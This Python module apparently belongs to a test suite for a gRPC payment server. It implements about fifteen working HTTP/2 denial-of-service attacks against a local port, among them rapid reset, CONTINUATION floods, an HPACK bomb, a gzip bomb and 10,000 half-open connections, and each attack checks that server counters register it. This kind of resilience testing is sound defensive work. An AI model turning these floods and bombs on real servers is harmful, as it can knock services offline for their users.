"""The attacks, by the bounds of docs/limits.md. Each is a generator's worth of frames on one connection after the other, until its
time is over; it returns what the server answered last. The runner bounds time, connections and memory."""
import itertools
import resource
import socket
import struct
import time
import zlib

from hpack import Encoder
from hyperframe.frame import ContinuationFrame, HeadersFrame
from neighbour import charge
from peer import INITIAL_WINDOW_SIZE, MAGIC, Gone, Peer, message, raw, request_fields

CHARGE = "/payments.v1.PaymentService/ChargeCard"
CHAT = "/payments.v1.PaymentService/PaymentChat"
BATCH = "/payments.v1.PaymentService/BatchCharge"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PING, WINDOW_UPDATE = 0, 1, 2, 3, 4, 6, 8
MOST_CONNECTIONS = 2000


class Attack:
    """counters: at least one of these has to move. spare: seconds beyond the usual."""

    def __init__(self, bound, name, counters, run, spare=0):
        self.bound, self.name, self.counters, self.run, self.spare = bound, name, counters, run, spare


def over_and_over(one, **options):
    """one(peer, until) on new connections until the time is over."""
    def run(port, until):
        answer = "nothing"
        for _ in range(MOST_CONNECTIONS):
            if time.monotonic() > until:
                break
            with Peer(port, **options) as peer:
                try:
                    peer.read(0.02)
                    one(peer, until)
                    peer.wait(0.3)
                except Gone:
                    pass
                answer = peer.answer() if peer.answer() != "nothing" else answer
        return answer
    return run


def flood(make, batch=64):
    """make(peer): a few bytes, again and again."""
    def one(peer, until):
        while time.monotonic() < until:
            peer.send(b"".join(make(peer) for _ in range(batch)))
            peer.read()
    return one


def rapid_reset(peer):
    stream = peer.new_id()
    return peer.headers(stream, request_fields(CHARGE)) + peer.reset(stream)


def malformed(peer):
    return peer.headers(peer.new_id(), request_fields(CHARGE, ("connection", "close")), ("END_HEADERS", "END_STREAM"))


def empty_names(peer):
    stream = peer.new_id()
    block = peer.encoder.encode(request_fields(CHARGE)) + b"\x00\x00\x00" * 10
    return raw(HEADERS, 0x5, stream, block)


VIOLATIONS = itertools.cycle([
    lambda stream: raw(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0)),
    lambda stream: raw(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0x7fffffff)),
    lambda stream: raw(PRIORITY, 0, stream, b"\0\0\0\0"),
    lambda stream: raw(PRIORITY, 0, stream, struct.pack(">IB", stream, 16)),
    lambda stream: raw(DATA, 1, stream, b"x") + raw(DATA, 0, stream, b"x"),
    lambda stream: raw(DATA, 1, stream, b"x") + raw(HEADERS, 5, stream, b"\x83"),
])


def made_you_reset(peer, until):
    violate = next(VIOLATIONS)
    while time.monotonic() < until:
        stream = peer.new_id()
        peer.send(peer.headers(stream, request_fields(CHAT)) + violate(stream))
        peer.read(0.05)


def continuations(peer, until):
    block = peer.encoder.encode(request_fields(CHARGE))
    peer.send(HeadersFrame(1, block).serialize())
    while time.monotonic() < until:
        peer.send(ContinuationFrame(1, b"\x00\x01n\x01v" * 10).serialize())


def hpack_bomb(peer):
    """One entry of 4000 bytes in the table, and references to it: 10,000 in every tenth block, 200 otherwise."""
    stream = peer.new_id()
    references = 10_000 if stream % 20 == 19 else 200
    entry = b"\x40\x01n\x7f\xa1\x1e" + b"v" * 4000
    return raw(HEADERS, 0x5, stream, Encoder().encode(request_fields(CHARGE)) + entry + b"\xbe" * references)


def settings_entries(peer, until):
    peer.send(raw(SETTINGS, 0, 0, struct.pack(">HI", 3, 100) * 33))
    peer.read(0.1)


def empty_data(peer):
    if peer.next_id == 1:
        return peer.headers(peer.new_id(), request_fields(CHAT))
    return raw(DATA, 0, 1)


def small_windows(peer):
    if peer.next_id == 1:
        return peer.headers(peer.new_id(), request_fields(CHAT))
    return raw(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1))


def zero_window(port, until):
    """Answers that nobody takes, of calls with a deadline; and echoes of what is sent on."""
    with Peer(port, settings={INITIAL_WINDOW_SIZE: 0}) as peer:
        peer.read(0.1)
        for _ in range(500):
            stream = peer.new_id()
            peer.send(peer.headers(stream, request_fields(CHARGE, ("grpc-timeout", "1S"))) + peer.data(stream, charge(), end=True))
        chats = [peer.new_id() for _ in range(200)]
        peer.send(b"".join(peer.headers(stream, request_fields(CHAT, ("grpc-timeout", "2S"))) for stream in chats))
        words = message(b"\x0a\xf4\x03" + b"w" * 500) * 10
        try:
            for _ in range(20):   # less than the connection's window
                for stream in chats:
                    peer.send(peer.data(stream, words))
                peer.read(0.01)
            peer.read(max(0.1, until - time.monotonic()))
        except Gone:
            pass
        peer.wait(1)
        return peer.answer()


def half_preface(port, until):
    """10,000 connections: most say nothing, some say half of what they should."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    silent = []
    for i in range(min(10_000, hard - 200)):
        connection = socket.create_connection(("127.0.0.1", port))
        if i % 10 == 0:
            connection.send(MAGIC[:12])
        silent.append(connection)
        if i % 500 == 0:
            time.sleep(0.02)
    time.sleep(max(0, until - time.monotonic()))
    closed = 0
    for connection in silent:
        connection.setblocking(False)
        try:
            while connection.recv(1 << 12):
                pass
            closed += 1
        except BlockingIOError:
            pass
        except OSError:
            closed += 1
        connection.close()
    return f"{closed} of {len(silent)} closed ({soft} to {hard} files)"


def gzip_bomb(peer):
    stream = peer.new_id()
    return (peer.headers(stream, request_fields(CHARGE, ("grpc-encoding", "gzip"))) +
            b"".join(peer.data(stream, BOMB[i:i + 16384], end=i + 16384 >= len(BOMB)) for i in range(0, len(BOMB), 16384)))


def make_bomb():
    compress = zlib.compressobj(9, zlib.DEFLATED, 31)
    zeros = bytes(1 << 20)
    return message(b"".join(compress.compress(zeros) for _ in range(100)) + compress.flush(), 1)


BOMB = make_bomb()


def unfinished(port, until):
    """Messages of 4 MiB, of which all but the last bytes come, on as many streams as there is room for."""
    peers = [Peer(port) for _ in range(8)]
    for peer in peers:
        peer.read(0.1)
    chunk = bytes(16384)
    try:
        for number in itertools.count():
            peer = peers[number % len(peers)]
            stream = peer.new_id()
            peer.send(peer.headers(stream, request_fields(CHARGE)) + peer.data(stream, struct.pack(">BI", 0, 4 << 20) + bytes(1000)))
            for _ in range(60):   # below the stream's window
                peer.send(peer.data(stream, chunk))
                if time.monotonic() > until:
                    return answers(peers)
            peer.read()
    except Gone:
        pass
    return answers(peers)


def answers(peers):
    for peer in peers:
        peer.wait(0.05)
        peer.socket.close()
    return "; ".join(sorted({peer.answer() for peer in peers}))[:200]


ATTACKS = [
    Attack("B1", "rapid reset", ["rapid_resets"], over_and_over(flood(rapid_reset))),
    Attack("B2", "made you reset", ["protocol_errors"], over_and_over(made_you_reset)),
    Attack("B2", "frames that mean nothing", ["glitch_floods"], over_and_over(flood(lambda peer: raw(0x77, 0, 0, b"x"), 1000))),
    Attack("B3", "CONTINUATION flood", ["header_floods"], over_and_over(continuations)),
    Attack("B4", "HPACK bomb", ["headers_over_limit", "glitch_floods", "header_floods"], over_and_over(flood(hpack_bomb, 4))),
    Attack("B5", "SETTINGS flood, not read", ["control_floods", "glitch_floods"],
           over_and_over(lambda peer, until: [peer.send(raw(SETTINGS, 0, 0) * 2000) for _ in range(100)], receive_buffer=4096)),
    Attack("B5", "SETTINGS of 33 entries", ["control_floods"], over_and_over(settings_entries)),
    Attack("B6", "PING flood", ["too_many_pings"], over_and_over(flood(lambda peer: raw(PING, 0, 0, bytes(8))))),
    Attack("B7", "malformed requests", ["rapid_resets"], over_and_over(flood(malformed))),
    Attack("B8", "empty DATA frames", ["empty_frame_floods"], over_and_over(flood(empty_data))),
    Attack("B9", "empty header names", ["rapid_resets"], over_and_over(flood(empty_names))),
    Attack("B10", "PRIORITY flood", ["priority_floods"], over_and_over(flood(lambda peer: raw(PRIORITY, 0, 3, struct.pack(">IB", 5, 1))))),
    Attack("B11", "WINDOW_UPDATE flood", ["window_update_floods"], over_and_over(flood(small_windows))),
    Attack("B12", "zero window", ["answers_not_read"], zero_window),
    Attack("B13", "10,000 silent connections", ["handshakes_given_up", "handshakes_timed_out"], half_preface, spare=4),
    Attack("B14", "gzip bomb", ["messages_over_limit"], over_and_over(flood(gzip_bomb, 2))),
    Attack("B15", "unfinished messages", ["ended_for_memory", "refused_for_memory"], unfinished),
]
